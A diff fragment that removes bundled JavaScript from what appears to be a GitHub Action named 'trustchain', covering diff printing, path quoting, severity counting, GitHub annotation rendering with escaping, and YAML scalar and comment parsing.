-        at = change.oldEnd;
-    }
-    return text + print(" ", old, at, oldTo);
-}
-/** An empty range is named by the line before it. */
-function rangeOf(from, to) {
-    const count = to - from;
-    return count === 1 ? `${from + 1}` : `${count === 0 ? from : from + 1},${count}`;
-}
-function print(mark, lines, from, to) {
-    let text = "";
-    for (let i = from; i < to; i++) {
-        const line = lines[i];
-        text += mark + (line.endsWith("\n") ? line : `${line}\n\\ No newline at end of file\n`);
-    }
-    return text;
-}
-const NAMED_ESCAPES = {
-    "\\": "\\\\",
-    '"': '\\"',
-    "\n": "\\n",
-    "\r": "\\r",
-    "\t": "\\t",
-};
-/** Paths with control characters, quotes or anything outside ASCII stand in C-style quotes. */
-function quoted(path) {
-    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
-    if (!/[\x00-\x1f\x7f-\uffff"\\]/.test(path))
-        return path.includes(" ") ? `${path}\t` : path;
-    let text = "";
-    for (const byte of new TextEncoder().encode(path)) {
-        const char = String.fromCharCode(byte);
-        text += NAMED_ESCAPES[char] ?? (byte < 0x20 || byte > 0x7e ? `\\${byte.toString(8).padStart(3, "0")}` : char);
-    }
-    return `"${text}"`;
-}
-
-;// CONCATENATED MODULE: ./packages/findings/lib/index.js
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-/***/ }),
-
-/***/ 636:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   O: () => (/* binding */ countBySeverity),
-/* harmony export */   T: () => (/* binding */ sortFindings)
-/* harmony export */ });
-/* harmony import */ var _finding_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(45);
-
-/** Counts of the findings that are not suppressed, by severity. */
-function countBySeverity(findings) {
-    const counts = Object.fromEntries(_finding_js__WEBPACK_IMPORTED_MODULE_0__/* .SEVERITIES */ .oC.map((severity) => [severity, 0]));
-    for (const finding of findings)
-        if (!finding.suppressed)
-            counts[finding.severity]++;
-    return counts;
-}
-function sortFindings(findings) {
-    return [...findings].sort(_finding_js__WEBPACK_IMPORTED_MODULE_0__/* .compareFindings */ .Eg);
-}
-
-
-/***/ }),
-
-/***/ 9254:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-__nccwpck_require__.r(__webpack_exports__);
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   annotations: () => (/* binding */ annotations),
-/* harmony export */   renderGithub: () => (/* binding */ renderGithub)
-/* harmony export */ });
-/* harmony import */ var _escape_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1533);
-/* harmony import */ var _finding_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(45);
-
-
-const LEVELS = {
-    critical: "error",
-    high: "error",
-    medium: "warning",
-    low: "notice",
-    info: "notice",
-};
-/** GitHub shows so many of each level for a step, and drops the rest without a word. */
-const LIMIT = 10;
-/** Notes for the findings that nothing silences: the worst first, as many as GitHub shows, and one on how many are left out. */
-function annotations(report, context) {
-    const findings = report.findings
-        .filter(({ suppressed }) => !suppressed)
-        .sort((a, b) => (0,_finding_js__WEBPACK_IMPORTED_MODULE_1__/* .compareSeverity */ .zK)(a.severity, b.severity));
-    let shown = firstOfEach(findings, { error: LIMIT, warning: LIMIT, notice: LIMIT });
-    // The note on the rest is a notice too and needs a place among them.
-    if (shown.length < findings.length)
-        shown = firstOfEach(findings, { error: LIMIT, warning: LIMIT, notice: LIMIT - 1 });
-    const notes = shown.map((finding) => annotationOf(finding, context));
-    const rest = findings.length - shown.length;
-    if (rest > 0)
-        notes.push({ level: "notice", title: "trustchain", message: restMessage(rest) });
-    return notes;
-}
-function firstOfEach(findings, limits) {
-    return findings.filter(({ severity }) => limits[LEVELS[severity]]-- > 0);
-}
-function restMessage(rest) {
-    return `${rest} more ${rest === 1 ? "finding is" : "findings are"} in the summary and the report: GitHub shows ${LIMIT} notes of a level`;
-}
-function annotationOf({ rule, severity, message, location }, context) {
-    const { path, startLine, startColumn, endLine, endColumn } = location;
-    const mend = context.rule(rule)?.mend;
-    return {
-        level: LEVELS[severity],
-        message: (0,_escape_js__WEBPACK_IMPORTED_MODULE_0__/* .escapeTerminal */ .en)(message) + (mend ? `\n${mend}` : ""),
-        title: `${rule} (${severity})`,
-        path: escapeExceptBreaks(path),
-        startLine,
-        endLine,
-        ...(startLine === endLine && { startColumn, endColumn }),
-    };
-}
-/** A line break in a file's name is part of the name; whoever prints it has a form for it. */
-function escapeExceptBreaks(path) {
-    return path.split("\n").map(_escape_js__WEBPACK_IMPORTED_MODULE_0__/* .escapeTerminal */ .en).join("\n");
-}
-/** Annotations as the workflow commands that make them. */
-function renderGithub(report, context) {
-    return annotations(report, context).map(commandOf).join("");
-}
-/** @see actions/toolkit, docs/commands.md; actions/runner, src/Runner.Common/ActionCommand.cs, for what is escaped */
-function commandOf({ level, message, title, path, startLine, endLine, startColumn, endColumn }) {
-    const properties = Object.entries({ file: path, line: startLine, endLine, col: startColumn, endColumn, title })
-        .filter(([, value]) => value !== undefined)
-        .map(([name, value]) => `${name}=${escapeProperty(String(value))}`);
-    return `::${level} ${properties.join(",")}::${escapeData(message)}\n`;
-}
-function escapeData(text) {
-    return text.replaceAll("%", "%25").replaceAll("\r", "%0D").replaceAll("\n", "%0A");
-}
-function escapeProperty(text) {
-    return escapeData(text).replaceAll(":", "%3A").replaceAll(",", "%2C");
-}
-
-
-/***/ }),
-
-/***/ 5891:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   G: () => (/* binding */ resolveCore)
-/* harmony export */ });
-const NULLS = new Set(["", "~", "null", "Null", "NULL"]);
-const BOOLEANS = new Map([
-    ["true", true],
-    ["True", true],
-    ["TRUE", true],
-    ["false", false],
-    ["False", false],
-    ["FALSE", false],
-]);
-const DECIMAL = /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)(?:[eE][-+]?[0-9]+)?$/;
-const OCTAL = /^0o[0-7]+$/;
-const HEXADECIMAL = /^0x[0-9a-fA-F]+$/;
-const INFINITY = /^([-+]?)\.(?:inf|Inf|INF)$/;
-const NAN = /^\.(?:nan|NaN|NAN)$/;
-/** Tag resolution of the YAML 1.2.2 core schema, section 10.3.2: `yes`, `on` and `0b1` stay strings. */
-function resolveCore(text) {
-    if (NULLS.has(text))
-        return null;
-    const boolean = BOOLEANS.get(text);
-    if (boolean !== undefined)
-        return boolean;
-    const first = text.charCodeAt(0);
-    const mayBeNumber = (first >= 48 && first <= 57) || first === 43 || first === 45 || first === 46;
-    return mayBeNumber ? resolveNumber(text) : text;
-}
-function resolveNumber(text) {
-    if (DECIMAL.test(text) || OCTAL.test(text) || HEXADECIMAL.test(text))
-        return Number(text);
-    const infinity = INFINITY.exec(text);
-    if (infinity)
-        return infinity[1] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY;
-    return NAN.test(text) ? Number.NaN : text;
-}
-
-
-/***/ }),
-
-/***/ 8165:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   m: () => (/* binding */ LazyDocument)
-/* harmony export */ });
-/* harmony import */ var _gaps_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(4937);
-
-/** A document whose comments are looked for when they are first asked for: most runs never ask. */
-class LazyDocument {
-    file;
-    root;
-    problems;
-    scalars;
-    #comments;
-    constructor(file, root, problems, 
-    /** The ranges of all scalars, in order: no comment stands inside them. */
-    scalars) {
-        this.file = file;
-        this.root = root;
-        this.problems = problems;
-        this.scalars = scalars;
-    }
-    comments() {
-        this.#comments ??= this.file.text.includes("#") ? findComments(this.file, this.scalars()) : [];
-        return this.#comments;
-    }
-}
-function findComments(file, scalars) {
-    const comments = [];
-    let at = 0;
-    for (const scalar of [...scalars, { start: file.text.length, end: file.text.length }]) {
-        for (const span of (0,_gaps_js__WEBPACK_IMPORTED_MODULE_0__/* .commentsBetween */ .X)(file.text, at, scalar.start))
-            comments.push(describe(file, span));
-        at = Math.max(at, scalar.end);
-    }
-    return comments;
-}
-function describe(file, span) {
-    const { line } = file.position(span.start);
-    const before = file.text.slice(file.lineStarts[line - 1], span.start);
-    return { ...span, text: file.text.slice(span.start + 1, span.end), alone: before.trim() === "" };
-}
-
-
-/***/ }),
-
-/***/ 4937:
-/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
-
-/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
-/* harmony export */   H: () => (/* binding */ findIndicator),
-/* harmony export */   X: () => (/* binding */ commentsBetween)
-/* harmony export */ });
-/**
- * What stands between two tokens is white space, comments and indicators. These scanners read such a gap; they are
- * never given the inside of a scalar.
- */
-/** The first of `wanted` between `from` and `to` outside comments, or -1. */
-function findIndicator(text, from, to, wanted) {
-    for (let i = from; i < to; i++) {
-        const char = text[i];
-        if (char === "#" && startsComment(text, i))
-            i = endOfLine(text, i, to);
-        else if (wanted.includes(char))
-            return i;
-    }
-    return -1;
-}
-/** Comments between `from` and `to`: a `#` at the line's start or after white space (YAML 1.2.2, section 6.6). */
-function commentsBetween(text, from, to) {
-    const comments = [];
-    for (let i = text.indexOf("#", from); i !== -1 && i < to; i = text.indexOf("#", i)) {
-        if (startsComment(text, i)) {
-            const end = endOfLine(text, i, to);
-            comments.push({ start: i, end });
-            i = end;
-        }
-        else {
-            i++;
-        }
-    }
-    return comments;
-}
-function startsComment(text, at) {
-    if (at === 0)
-        return true;
-    const before = text.charCodeAt(at - 1);
-    return before === 32 || before === 9 || before === 10 || before === 13 || before === 0xfeff;
-}
-function endOfLine(text, from, to) {
-    let i = from;
-    while (i < to && text.charCodeAt(i) !== 10 && text.charCodeAt(i) !== 13)
-        i++;
-    return i;
-}
 
 
 /***/ }),
